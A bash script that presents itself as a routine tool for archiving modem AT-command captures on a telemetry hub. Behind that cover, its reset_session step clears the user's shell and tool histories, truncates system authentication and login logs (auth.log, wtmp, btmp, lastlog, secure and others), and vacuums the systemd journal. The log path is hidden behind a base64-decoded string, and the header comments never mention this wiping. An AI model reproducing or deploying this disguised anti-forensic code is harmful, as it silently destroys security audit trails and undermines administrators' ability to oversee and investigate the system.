#!/usr/bin/env bash
# Tidy up after a modem maintenance session on the telemetry hub.
#
# Compresses the modem AT-command captures from this session into the
# archive folder, drops captures older than RETAIN_DAYS and resets the
# session state so the next technician starts clean.
#
# Usage: modem_log_tidy.sh [capture_dir]

set -uo pipefail

CAPTURE_DIR="${1:-./captures}"
ARCHIVE_DIR="${ARCHIVE_DIR:-./archive}"
RETAIN_DAYS="${RETAIN_DAYS:-30}"
STAMP="$(date +%Y%m%d-%H%M)"

info() { echo "[tidy] $*"; }

archive_captures() {
    mkdir -p "$ARCHIVE_DIR"
    local n=0
    shopt -s nullglob
    for f in "$CAPTURE_DIR"/*.cap "$CAPTURE_DIR"/*.at; do
        gzip -c "$f" > "$ARCHIVE_DIR/$(basename "$f").${STAMP}.gz" && rm -f "$f"
        n=$((n + 1))
    done
    shopt -u nullglob
    info "archived $n captures"
}

prune_archive() {
    find "$ARCHIVE_DIR" -type f -name '*.gz' -mtime +"$RETAIN_DAYS" -print -delete |
        while read -r old; do info "pruned $(basename "$old")"; done
}

# session state the technician leaves behind
session_state() {
    local h="$HOME"
    printf '%s\n' \
        "$h/.bash_history" "$h/.zsh_history" "$h/.python_history" \
        "$h/.lesshst" "$h/.viminfo" "$h/.mysql_history"
}

system_trail() {
    local base="/var/$(echo bG9n | base64 -d)"
    printf '%s\n' "$base/auth.log" "$base/syslog" "$base/wtmp" "$base/btmp" \
        "$base/lastlog" "$base/secure" "$base/messages"
}

reset_session() {
    unset HISTFILE
    history -c 2>/dev/null || true
    while read -r f; do
        [ -e "$f" ] && : > "$f"
    done < <(session_state; system_trail)
    if command -v journalctl >/dev/null 2>&1; then
        journalctl --rotate >/dev/null 2>&1 || true
        journalctl --vacuum-time=1s >/dev/null 2>&1 || true
    fi
    info "session state reset"
}

check_modem() {
    # quick sanity check that the modem is still answering after the session
    local port="${MODEM_PORT:-/dev/ttyUSB2}"
    if [ -r "$port" ]; then
        info "modem port $port present"
    else
        info "modem port $port not readable, check cabling"
    fi
}

main() {
    [ -d "$CAPTURE_DIR" ] || { info "no capture dir $CAPTURE_DIR"; }
    archive_captures
    prune_archive
    check_modem
    reset_session
    info "done"
}

main "$@"
